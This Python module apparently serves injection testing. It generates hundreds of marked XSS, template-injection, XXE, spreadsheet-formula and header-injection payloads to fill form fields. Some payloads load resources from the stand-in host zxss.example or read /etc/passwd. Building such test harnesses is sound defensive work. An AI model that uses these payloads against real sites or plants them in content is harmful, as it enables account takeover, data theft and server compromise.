"""Texts that become code wherever a page takes them for more than texts. All written here.

Each calls `pwned()` or changes the document, and carries the mark `zxss` as an element's name, an attribute's, or in an
address: so a page that took one for markup shows it, even where a policy kept it from running.
"""

MARK = "zxss"
"""In every vector, and in nothing that is ours."""

_RUNS = (
    "<script zxss>pwned()</script>",
    "<img zxss src=x onerror=pwned()>",
    "<svg zxss onload=pwned()>",
    "<zxss-a autofocus tabindex=1 onfocus=pwned()>",
    "<iframe zxss srcdoc='<script>parent.pwned()</script>'></iframe>",
)

_ENDS = (
    '">',
    "'>",
    "`>",
    "--></style></script>",
    "</title>",
    "</textarea>",
    "</select></option>",
    "</noscript>",
    "</template>",
    "]]>",
    "</pre></code>",
    "</svg>",
    "</dialog></details>",
    "</xmp></plaintext>",
    "\\x3e\\u003e",
    "&quot;&gt;",
)

_MARKUP = (
    "<ScRiPt zxss>pwned()</sCrIpT>",
    "<script zxss src=//zxss.example/x.js></script>",
    "<script zxss src=data:text/javascript,pwned()></script>",
    "<script/zxss>pwned()//",
    "<<script zxss>pwned()//<</script>",
    "<scr<script zxss>ipt>pwned()</scr</script>ipt>",
    "<script zxss type=module>pwned()</script>",
    "<script zxss type=importmap>{}</script>",
    "<script\x0czxss>pwned()</script\x0c>",
    "<img zxss src=1 onerror=pwned``>",
    "<img/zxss/src=x/onerror=pwned()>",
    "<img zxss src=x onerror='&#112;wned()'>",
    "<img zxss src=x:x onerror\n=pwned()>",
    "<img zxss srcset=x sizes=1 onerror=pwned()>",
    '<img zxss """><script>pwned()</script>">',
    "<image zxss src=x onerror=pwned()>",
    "<video zxss><source onerror=pwned()></video>",
    "<video zxss src=x onerror=pwned()></video>",
    "<audio zxss src=x onerror=pwned()></audio>",
    "<body zxss onload=pwned()>",
    "<body zxss onhashchange=pwned()><a href=#x>",
    "<details zxss open ontoggle=pwned()>",
    "<input zxss autofocus onfocus=pwned()>",
    "<select zxss autofocus onfocus=pwned()>",
    "<textarea zxss autofocus onfocus=pwned()>",
    "<marquee zxss onstart=pwned()>x</marquee>",
    "<keygen zxss autofocus onfocus=pwned()>",
    "<div zxss onpointerover=pwned() style=position:fixed;inset:0>",
    "<div zxss style=animation:a;animation-name:x onanimationstart=pwned()>",
    "<style zxss>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwned()>",
    "<button zxss popovertarget=x>a</button><b popover id=x onbeforetoggle=pwned()>",
    "<form zxss action=javascript:pwned()><button>x",
    "<form zxss><button formaction=javascript:pwned()>x",
    "<isindex zxss type=image src=1 onerror=pwned()>",
    "<object zxss data=javascript:pwned()>",
    "<object zxss data='data:text/html,<script>parent.pwned()</script>'>",
    "<embed zxss src=javascript:pwned()>",
    "<embed zxss src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe zxss src=javascript:parent.pwned()></iframe>",
    "<iframe zxss onload=pwned()></iframe>",
    "<frameset zxss onload=pwned()>",
    "<base zxss href=//zxss.example/>",
    "<link zxss rel=stylesheet href=//zxss.example/x.css>",
    "<link zxss rel=prefetch href=//zxss.example/x>",
    "<meta zxss http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<meta zxss http-equiv=refresh content='0;url=//zxss.example'>",
    "<meta zxss name=htmx-config content='{\"allowEval\":true}'>",
    "<portal zxss src=javascript:pwned()>",
    "<applet zxss code=x>",
    "<x zxss contenteditable onblur=pwned()>lose",
    "<a zxss href=javascript:pwned() autofocus onfocus=pwned()>a</a>",
    "<a zxss href='java\tscript:pwned()'>a</a>",
    "<a zxss href=&#106;avascript:pwned()>a</a>",
    "<a zxss href='data:text/html,<script>pwned()</script>'>a</a>",
    "<a zxss href=# ping=//zxss.example/ping>a</a>",
    "<area zxss href=javascript:pwned()>",
    "<template zxss shadowrootmode=open><img src=x onerror=pwned()></template>",
    "<slot zxss onslotchange=pwned()>",
    "<dialog zxss open onclose=pwned()>",
    "<plaintext zxss>",
    "<xmp zxss><p title='</xmp><img src=x onerror=pwned()>'>",
)

_SVG_AND_MUTATION = (
    "<svg zxss><script>pwned()</script></svg>",
    "<svg zxss><script href=data:,pwned() /></svg>",
    "<svg zxss><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg zxss><set attributeName=onload to=pwned() />",
    "<svg zxss><a xlink:href=javascript:pwned()><text y=20>a</text></a>",
    "<svg zxss><use href='data:image/svg+xml,<svg id=x onload=pwned() />#x' />",
    "<svg zxss><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
    "<svg zxss><style><img src=x onerror=pwned()></style></svg>",
    "<svg zxss><p><style><a id='</style><img src=x onerror=pwned()>'>",
    "<svg zxss><title><style><img title='</style><img src=x onerror=pwned()>'>",
    "<svg zxss><desc><noscript><img title='</noscript><img src=x onerror=pwned()>'>",
    "<math zxss><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math zxss><mi//xlink:href='data:x,<script>pwned()</script>'>",
    "<math zxss href=javascript:pwned()>x</math>",
    "<math zxss><annotation-xml encoding='text/html'><img src=x onerror=pwned()>",
    "<form zxss><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<noscript zxss><p title='</noscript><img src=x onerror=pwned()>'>",
    "<table zxss><caption><svg><style></table><img src=x onerror=pwned()>",
    "<select zxss><template><style><!--</style><img src=x onerror=pwned()>-->",
    "<!--zxss--!><img zxss src=x onerror=pwned()>",
    "<!--><img zxss src=x onerror=pwned()>-->",
    "<![CDATA[<img zxss src=x onerror=pwned()>]]>",
    "<?xml zxss><img zxss src=x onerror=pwned()>",
    "<!ENTITY zxss SYSTEM 'file:///etc/passwd'>",
    "<p zxss id='</p><img src=x onerror=pwned()>'>",
    "<a zxss title='--><img src=x onerror=pwned()>'>",
    "<listing zxss>&lt;img src=x onerror=pwned()&gt;</listing>",
    "&lt;img zxss src=x onerror=pwned()&gt;",
    "&amp;lt;img zxss src=x onerror=pwned()&amp;gt;",
)

_ATTRIBUTES = (
    '" zxss onfocus=pwned() autofocus x="',
    "' zxss onfocus=pwned() autofocus x='",
    "` zxss onfocus=pwned() autofocus x=`",
    " zxss onfocus=pwned() autofocus ",
    "x\tzxss\tonpointerenter=pwned()\t",
    "x\x0czxss\x0conclick=pwned()\x0c",
    "x/zxss/onclick=pwned()/",
    '"zxss=1 onmouseover="pwned()',
    "'zxss=1 onmouseover='pwned()",
    '" zxss style="position:fixed;inset:0" onclick="pwned()',
    '" zxss accesskey="x" onclick="pwned()" x="',
    '"><option zxss selected onclick=pwned()>',
    '\\" zxss onfocus=pwned() autofocus \\"',
    "&quot; zxss onfocus=pwned() autofocus x=&quot;",
    "&#34 zxss onfocus=pwned() autofocus x=&#34",
    '"/zxss/><a href="',
    "aaa\" zxss ''\" onfocus='pwned()' autofocus='",
)

_LIVE_PARTS = (
    '" zxss hx-get="/admin/sign-out" hx-trigger="load" x="',
    "' zxss hx-on:load='pwned()' x='",
    '" zxss hx-on::before-request="pwned()" x="',
    '" zxss data-hx-get="//zxss.example/" data-hx-trigger="load" x="',
    '<div zxss hx-get="/v1/settings" hx-trigger="load" hx-swap="outerHTML">',
    '<div zxss hx-trigger="load[pwned()]" hx-get="/">',
    "<div zxss hx-vals='js:{a:pwned()}' hx-trigger=load hx-post=/>",
    "<div zxss hx-headers='js:{a:pwned()}' hx-trigger=load hx-get=/>",
    '<div zxss hx-ext="zxss" hx-boost="true" hx-push-url="//zxss.example">',
    '<div zxss hx-swap-oob="innerHTML:body">owned</div>',
    '<div zxss hx-disinherit="*" hx-encoding="multipart/form-data" hx-delete="/">',
    '<div zxss x-data x-init="pwned()">',
    '<div zxss x-html="pwned()" x-data>',
    '<div zxss x-on:load="pwned()" @click="pwned()" :class="pwned()">',
    '<div zxss v-html="pwned()" v-on:click="pwned()">',
    "<div zxss ng-app>{{constructor.constructor('pwned()')()}}",
    '<div zxss data-bind="html:pwned()">',
    '<div zxss data-copy="x" data-copied="<img src=x onerror=pwned()>">',
    '<form zxss method=post action=/admin/sign-out data-confirm="x"><input autofocus>',
    "<button zxss data-palette-open data-menu-open autofocus>x</button>",
)

_TEMPLATES = (
    "{{7*7}}zxss{{config}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}zxss",
    "{{ self.__init__.__globals__ }}zxss",
    "{{ request.application.__globals__ }}zxss",
    "{% raw %}zxss{% endraw %}{{ config.items() }}",
    "{% include '/etc/passwd' %}zxss",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}zxss",
    "{# zxss #}{{ lipsum.__globals__ }}",
    "${7*7}zxss${pwned()}",
    "#{7*7}zxss",
    "<%= 7*7 %>zxss<% pwned() %>",
    "%(zxss)s%(config)s%s%n%x",
    "{zxss}{0}{0.__class__}{count}{name}",
    "{{constructor.constructor('pwned()')()}}zxss",
    "[[${zxss}]]*{7*7}",
    "@(7*7)zxss",
    "%7B%7B7*7%7D%7Dzxss",
    '{{ env "SECRET_KEY" }}zxss',
)

_IN_SCRIPTS = (
    "</script><script zxss>pwned()</script>",
    "</ScRiPt ><script zxss>pwned()</script>",
    "<!--<script>zxss</script><script>pwned()//",
    "'-pwned()-'zxss",
    '"-pwned()-"zxss',
    "\\'-pwned()//zxss",
    '\\"-pwned()//zxss',
    "`${pwned()}`zxss",
    "';pwned();//zxss",
    '";pwned();//zxss',
    "\u2028pwned()//zxss",
    "\u2029pwned()//zxss",
    '"}};pwned();({"zxss":"',
    '"],"document":{"zxss":1},"x":["',
    '{"__proto__":{"zxss":"pwned()"}}',
    "\\u003cimg zxss src=x onerror=pwned()\\u003e",
    "\\x3cimg zxss src=x onerror=pwned()\\x3e",
    "//zxss\npwned()",
    "*/pwned()/*zxss",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */pwned() )//%0D%0A"
    "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/zxss/oNloAd=pwned()//>",
    "'\"()&%<zxss><ScRiPt >pwned()</ScRiPt>",
    "\"'--></style></script><svg zxss onload=pwned()>{{7*7}}",
)

_ADDRESSES = (
    "javascript:pwned()//zxss",
    "JaVaScRiPt:pwned()//zxss",
    " javascript:pwned()//zxss",
    "java\nscript:pwned()//zxss",
    "java\tscript:pwned()//zxss",
    "\x01javascript:pwned()//zxss",
    "javascript&colon;pwned()//zxss",
    "javascript://acme.example/%0Apwned()//zxss",
    "https:javascript:pwned()//zxss",
    "vbscript:pwned()'zxss",
    "data:text/html,<script>pwned()</script>zxss",
    "data:image/svg+xml,<svg onload=pwned()>zxss",
    "blob:https://zxss.example/1",
    "//zxss.example/x",
    "\\\\zxss.example\\x",
    "/\\zxss.example",
    "https://zxss.example/'onfocus=pwned() autofocus x='",
    "https://acme.example@zxss.example/",
    'https://acme.example/#"><img zxss src=x onerror=pwned()>',
    "https://acme.example/?a='%22><svg zxss onload=pwned()>",
    "feed:javascript:pwned()//zxss",
    "view-source:javascript:pwned()//zxss",
    "filesystem:https://zxss.example/",
    "intent://zxss#Intent;scheme=javascript;end",
)

_STYLES = (
    "red;}</style><img zxss src=x onerror=pwned()>",
    "red;background:url(//zxss.example/leak)",
    "expression(pwned())zxss",
    "}*{background:url(https://zxss.example/x)}",
    "@import'//zxss.example/x.css';",
    "-moz-binding:url(//zxss.example/x#y)",
    "x:var(--zxss);behavior:url(#default#time2)",
    "\\3c img zxss src=x onerror=pwned()\\3e",
    'a[href^="zxss"]{background:url(//zxss.example/a)}',
)

_LETTERS = (
    "\uff1cimg zxss src=x onerror=pwned()\uff1e",
    "\u2039script zxss\u203apwned()\u2039/script\u203a",
    "\u02bczxss onfocus=pwned() autofocus\u02bc",
    "\uff02 zxss onfocus=pwned() autofocus \uff02",
    "<\u0131mg zxss src=x onerror=pwned()>",
    "<\u017fcript zxss>pwned()</\u017fcript>",
    "<img\u2028zxss\u2028src=x\u2028onerror=pwned()>",
    "<img\u00a0zxss\u00a0src=x onerror=pwned()>",
    "<i\u00admg zxss src=x onerror=pwned()>",
    "\ufeff<img zxss src=x onerror=pwned()>",
    "\u202e>)(denwp=rorreno x=crs zxss gmi<",
    "\u2066<img zxss src=x onerror=pwned()>\u2069",
    "<img zxss src=x onerror=\u200bpwned()>",
    "\x00<img zxss src=x onerror=pwned()>",
    "<im\x00g zxss src=x onerror=pwned()>",
    "\x1b]8;;javascript:pwned()zxss\x07",
    "+ADw-script zxss+AD4-pwned()+ADw-/script+AD4-",
    "%3Cimg%20zxss%20src=x%20onerror=pwned()%3E",
    "%253Cimg zxss src=x onerror=pwned()%253E",
    "\u00c0\u00bcimg zxss src=x onerror=pwned()>",
    "\U000e003cimg zxss\U000e003e",
    "e\u0301\u0301\u0301\u0301zxss<b\u0301 zxss>",
)

_SHEETS_AND_MAIL = (
    "=zxss+cmd|' /C calc'!A0",
    "@SUM(1+1)*zxss",
    "-2+3+zxss",
    "zxss\r\nBcc: eve@zxss.example",
    "zxss\nSet-Cookie: a=b",
    "zxss%0d%0aLocation: //zxss.example",
    '=HYPERLINK("//zxss.example?"&A1,"zxss")',
    "[zxss](javascript:pwned())",
    '![zxss](x" onerror="pwned())',
    "<javascript:pwned()//zxss>",
    "zxss`<img src=x onerror=pwned()>`",
)

VECTORS = (
    *(end + run for end in _ENDS for run in _RUNS),
    *_MARKUP,
    *_SVG_AND_MUTATION,
    *_ATTRIBUTES,
    *_LIVE_PARTS,
    *_TEMPLATES,
    *_IN_SCRIPTS,
    *_ADDRESSES,
    *_STYLES,
    *_LETTERS,
    *_SHEETS_AND_MAIL,
)


class Texts:
    """Hostile texts for field after field: each field gets every vector, if it is filled often enough."""

    def __init__(self, begin: int = 0) -> None:
        self._begin = begin
        self._at: dict[str, int] = {}
        self._rounds: dict[str, int] = {}

    def __call__(self, field: str, longest: int) -> str:
        """As many of the field's next vectors as fit, with the name of the field before them."""
        text = f"{field}{MARK}"
        at = self._at.get(field, self._begin)
        for tried in range(len(VECTORS)):
            vector = VECTORS[(at + tried) % len(VECTORS)]
            if len(text) + 1 + len(vector) > longest:
                break
            text += " " + vector
        else:
            tried = len(VECTORS)
        # One that fits into no field of this kind is left out there.
        step = tried or 1
        self._rounds[field] = self._rounds.get(field, 0) + (at + step) // len(VECTORS)
        self._at[field] = (at + step) % len(VECTORS)
        return text[:longest]

    def short_of(self) -> list[str]:
        """The fields that have not had every vector yet."""
        return sorted(field for field in self._at if not self._rounds.get(field))
